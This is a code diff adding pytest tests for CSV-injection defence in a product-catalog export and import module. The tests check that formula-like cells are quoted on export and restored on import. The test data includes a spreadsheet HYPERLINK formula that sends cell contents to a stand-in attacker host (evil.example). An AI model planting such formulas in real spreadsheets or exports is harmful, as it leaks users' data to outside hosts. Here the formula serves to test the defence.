@@ -14,7 +14,9 @@ from gateway.catalog import (
     ProductSchema,
     export_products,
     import_products,
+    neutralise_cell,
     read_products,
+    restore_cell,
 )
 from gateway.errors import InvalidRequest
 from gateway.store.base import AVAILABILITY, Product
@@ -318,3 +320,72 @@ def test_export_unknown_extension(store, tmp_path):
     with pytest.raises(CatalogError):
         export_products(store, tmp_path / "out.txt")
     assert not (tmp_path / "out.txt").exists()
+
+
+# CSV injection: formula cells are neutralised on export and restored on import
+
+FORMULAS = ['=HYPERLINK("https://evil.example/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A2)",
+            "\tindented", "\rreturn", "=1", "-"]
+
+
+def test_export_quotes_every_text_cell_a_spreadsheet_would_run(store, tmp_path):
+    products = [Product(product_id=f"F{n}", name=formula, category="office", price=1.0, brand=formula,
+                        description=formula) for n, formula in enumerate(FORMULAS)]
+    store.put_products(products)
+    out = tmp_path / "out.csv"
+    export_products(store, out)
+    with out.open(encoding="utf-8", newline="") as fh:
+        rows = list(csv.DictReader(fh))
+    for row, formula in zip(rows, FORMULAS, strict=True):
+        for column in ("name", "brand", "description"):
+            assert row[column] == "'" + formula
+            assert row[column][0] not in "=+-@\t\r"
+
+
+def test_export_leaves_ordinary_text_and_numbers_alone(store, tmp_path):
+    store.put_products([Product(product_id="-5", name="Kettle - 1.7 l", category="kitchen", price=0.0,
+                                rating=4.5, brand="'Til Tuesday", description="a = b, c @ d")])
+    out = tmp_path / "out.csv"
+    export_products(store, out)
+    with out.open(encoding="utf-8", newline="") as fh:
+        [row] = list(csv.DictReader(fh))
+    assert row["productId"] == "'-5"  # a text column: quoted even though it looks like a number
+    assert (row["name"], row["brand"], row["description"]) == ("Kettle - 1.7 l", "'Til Tuesday", "a = b, c @ d")
+    assert (row["price"], row["rating"]) == ("0.0", "4.5")  # number columns are written as numbers
+
+
+@pytest.mark.parametrize("value", [*FORMULAS, "'=already quoted", "''", "'", "'Til", "''=x", "plain", "a=b"])
+def test_neutralise_and_restore_are_inverse(value):
+    assert restore_cell(neutralise_cell(value)) == value
+    cell = neutralise_cell(value)
+    assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r")
+
+
+def test_a_csv_export_with_formulas_and_quotes_imports_back_unchanged(store, tmp_path):
+    tricky = [*FORMULAS, "'=already quoted", "''", "'", "'Til Tuesday", "''=x"]
+    products = [Product(product_id=value if n % 2 else f"T{n}", name=value, category="office", price=2.5,
+                        brand=value, description=value) for n, value in enumerate(tricky)]
+    store.put_products(products)
+    out = tmp_path / "out.csv"
+    assert export_products(store, out) == len(products)
+    back = {p.product_id: p for p in read_products(out)}
+    assert back == all_products(store)
+
+    other = SQLiteStore(str(tmp_path / "other.db"))
+    import_products(other, out)
+    assert all_products(other) == all_products(store)
+
+
+def test_a_hand_written_csv_keeps_a_leading_quote_that_guards_nothing(tmp_path):
+    path = write_csv(tmp_path / "in.csv", [good("A1", name="'Til Tuesday", brand="'=SUM(1)")])
+    [product] = read_products(path)
+    assert product.name == "'Til Tuesday"  # not a quote export adds: kept
+    assert product.brand == "=SUM(1)"  # the guard export would have written: removed
+
+
+def test_json_export_is_not_quoted(store, tmp_path):
+    store.put_products([Product(product_id="J1", name="=1+1", category="office", price=1.0)])
+    out = tmp_path / "out.json"
+    export_products(store, out)
+    assert json.loads(out.read_text(encoding="utf-8"))[0]["name"] == "=1+1"
+    assert read_products(out)[0].name == "=1+1"
